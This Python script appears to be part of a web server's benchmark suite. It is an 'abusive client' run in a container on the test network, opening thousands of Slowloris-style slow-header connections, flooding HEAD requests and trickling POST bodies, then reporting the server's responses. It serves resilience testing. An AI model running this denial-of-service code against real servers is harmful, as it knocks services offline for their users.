"""One abusive client, run INSIDE a container on the site's network (its own address, not the polite
clients'): python3 and its standard library only. For ``--seconds`` (or until ``--linger`` seconds after
all its slow connections were open at once) it

- keeps ``--slow`` TLS (``--plain``: HTTP) connections open that send a request header a line at a time
  (every ``--interval`` seconds) and never finish it, opening a new one whenever the server drops one;
- floods ``--flood`` HEAD requests a second over a few kept-alive connections;
- holds ``--bodies`` POSTs whose body trickles in a byte at a time (each one a request in progress);

in three processes (``parts``: one Python process cannot keep up with it all), then prints what it got as one
JSON object: how many slow connections it opened and held at most at once, and the answers (status codes)
of the flood and of the slow bodies. bench/abuse.py starts it with ``docker run``.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import multiprocessing
import ssl
import time
from collections import Counter
from typing import Any

HANDSHAKES_AT_ONCE = 200
START = time.monotonic()
FLOOD_CONNECTIONS = 8
SLOW_PROCESSES = 2


class Stats:
    """One process's counts; the slow connections open now and at most are shared by the processes."""

    def __init__(self, shared: Any, args: argparse.Namespace) -> None:
        self.shared = shared  # (open now, most at once, when all were first open at once): multiprocessing Values
        self.deadline = START + args.seconds
        self.target = args.slow
        self.linger = args.linger
        self.slow_opened = 0
        self.slow_dropped = 0
        self.slow_failed = 0
        self.flood: Counter[str] = Counter()
        self.bodies: Counter[str] = Counter()
        self.errors: Counter[str] = Counter()

    def slow_open(self, change: int) -> None:
        now, peak, reached = self.shared
        with now.get_lock():
            now.value += change
            peak.value = max(peak.value, now.value)
            if peak.value >= self.target and not reached.value:
                reached.value = time.monotonic()

    def over(self) -> bool:
        """The attack ends ``--linger`` seconds after all ``--slow`` connections were open at once, or at
        ``--seconds`` at the latest (a busy machine opens them more slowly)."""
        reached: float = self.shared[2].value
        now = time.monotonic()
        return now >= self.deadline or (reached > 0 and now >= reached + self.linger)

    def report(self) -> dict[str, Any]:
        return {
            "slow_opened": self.slow_opened,
            "slow_dropped_by_server": self.slow_dropped,
            "slow_failed_to_open": self.slow_failed,
            "flood": dict(self.flood),
            "bodies": dict(self.bodies),
            "errors": dict(self.errors),
        }


async def connect(
    args: argparse.Namespace, context: ssl.SSLContext
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    if args.plain:
        return await asyncio.wait_for(asyncio.open_connection(args.host, args.port), timeout=15)
    return await asyncio.wait_for(
        asyncio.open_connection(args.host, args.port, ssl=context, server_hostname=args.domain), timeout=15
    )


async def status_of(reader: asyncio.StreamReader, head_request: bool = False) -> str:
    """The status code of the answer on ``reader``, its headers read and its body skipped (a HEAD has none)."""
    head = await reader.readuntil(b"\r\n\r\n")
    status = head.split(b" ", 2)[1].decode()
    if head_request:
        return status
    length = 0
    for line in head.split(b"\r\n"):
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            length = int(value)
    if length:
        await reader.readexactly(length)
    return status


async def slow(args: argparse.Namespace, context: ssl.SSLContext, stats: Stats, gate: asyncio.Semaphore) -> None:
    while not stats.over():
        try:
            async with gate:
                reader, writer = await connect(args, context)
        except (TimeoutError, OSError, ssl.SSLError) as error:
            stats.slow_failed += 1
            stats.errors[type(error).__name__] += 1
            await asyncio.sleep(1)
            continue
        stats.slow_opened += 1
        stats.slow_open(1)
        try:
            writer.write(f"GET / HTTP/1.1\r\nHost: {args.domain}\r\n".encode())
            while not stats.over():
                await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(1024), timeout=args.interval)
                except TimeoutError:
                    writer.write(b"X-Slow: 1\r\n")
                    continue
                stats.slow_dropped += 1  # an answer (408) or the end of the connection: the server cut it
                del data
                break
        except (OSError, ssl.SSLError):
            stats.slow_dropped += 1
        finally:
            stats.slow_open(-1)
            writer.close()


async def flood(args: argparse.Namespace, context: ssl.SSLContext, stats: Stats) -> None:
    pause = FLOOD_CONNECTIONS / args.flood
    request = f"HEAD / HTTP/1.1\r\nHost: {args.domain}\r\n\r\n".encode()
    while not stats.over():
        try:
            reader, writer = await connect(args, context)
        except (TimeoutError, OSError, ssl.SSLError) as error:
            stats.flood["no connection"] += 1
            stats.errors[type(error).__name__] += 1
            await asyncio.sleep(pause)
            continue
        try:
            while not stats.over():
                started = time.monotonic()
                writer.write(request)
                stats.flood[await asyncio.wait_for(status_of(reader, head_request=True), timeout=10)] += 1
                await asyncio.sleep(max(0.0, pause - (time.monotonic() - started)))
        except (TimeoutError, OSError, asyncio.IncompleteReadError, ssl.SSLError) as error:
            stats.errors[type(error).__name__] += 1
        finally:
            writer.close()


async def body(args: argparse.Namespace, context: ssl.SSLContext, stats: Stats) -> None:
    try:
        reader, writer = await connect(args, context)
    except (TimeoutError, OSError, ssl.SSLError) as error:
        stats.bodies["no connection"] += 1
        stats.errors[type(error).__name__] += 1
        return
    try:
        writer.write(f"POST / HTTP/1.1\r\nHost: {args.domain}\r\nContent-Length: 1000000\r\n\r\n".encode())
        while not stats.over():
            await writer.drain()
            try:
                stats.bodies[await asyncio.wait_for(status_of(reader), timeout=args.interval)] += 1
                return
            except TimeoutError:
                writer.write(b"x")
        stats.bodies["held"] += 1
    except (OSError, asyncio.IncompleteReadError, ssl.SSLError):
        stats.bodies["dropped"] += 1
    finally:
        writer.close()


async def attack(args: argparse.Namespace, part: dict[str, int], stats: Stats) -> dict[str, Any]:
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    gate = asyncio.Semaphore(HANDSHAKES_AT_ONCE)
    tasks = [slow(args, context, stats, gate) for _ in range(part["slow"])]
    tasks += [body(args, context, stats) for _ in range(part["bodies"])]
    tasks += [flood(args, context, stats) for _ in range(part["flood"])]
    await asyncio.gather(*tasks)
    return stats.report()


def run_part(args: argparse.Namespace, part: dict[str, int], shared: Any, results: Any) -> None:
    results.put(asyncio.run(attack(args, part, Stats(shared, args))))


def parts(args: argparse.Namespace) -> list[dict[str, int]]:
    """One process per part (one Python process cannot keep up with all of it): the slow connections in
    SLOW_PROCESSES, the flood and the slow bodies in one more."""
    share = [args.slow // SLOW_PROCESSES + (index < args.slow % SLOW_PROCESSES) for index in range(SLOW_PROCESSES)]
    flood = FLOOD_CONNECTIONS if args.flood else 0
    return [*({"slow": n, "bodies": 0, "flood": 0} for n in share), {"slow": 0, "bodies": args.bodies, "flood": flood}]


def merged(reports: list[dict[str, Any]], peak: int) -> dict[str, Any]:
    total: dict[str, Any] = {"slow_peak": peak}
    for report in reports:
        for key, value in report.items():
            if isinstance(value, dict):
                total[key] = dict(Counter(total.get(key, {})) + Counter(value))
            else:
                total[key] = total.get(key, 0) + value
    return total


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, default=443)
    parser.add_argument("--domain", required=True)
    parser.add_argument("--seconds", type=float, default=30, help="at most this long")
    parser.add_argument(
        "--linger", type=float, default=1e9, help="stop this long after all --slow connections were open at once"
    )
    parser.add_argument("--slow", type=int, default=10000)
    parser.add_argument("--interval", type=float, default=5)
    parser.add_argument("--flood", type=float, default=0, help="HEAD requests a second (0: none)")
    parser.add_argument("--bodies", type=int, default=0)
    parser.add_argument("--plain", action="store_true", help="plain HTTP, not TLS")
    args = parser.parse_args()
    shared = (multiprocessing.Value("i", 0), multiprocessing.Value("i", 0), multiprocessing.Value("d", 0.0))
    results: Any = multiprocessing.Queue()
    processes = [multiprocessing.Process(target=run_part, args=(args, part, shared, results)) for part in parts(args)]
    for process in processes:
        process.start()
    reports = [results.get() for _ in processes]
    for process in processes:
        process.join()
    print(json.dumps(merged(reports, shared[1].value), sort_keys=True))


if __name__ == "__main__":
    main()
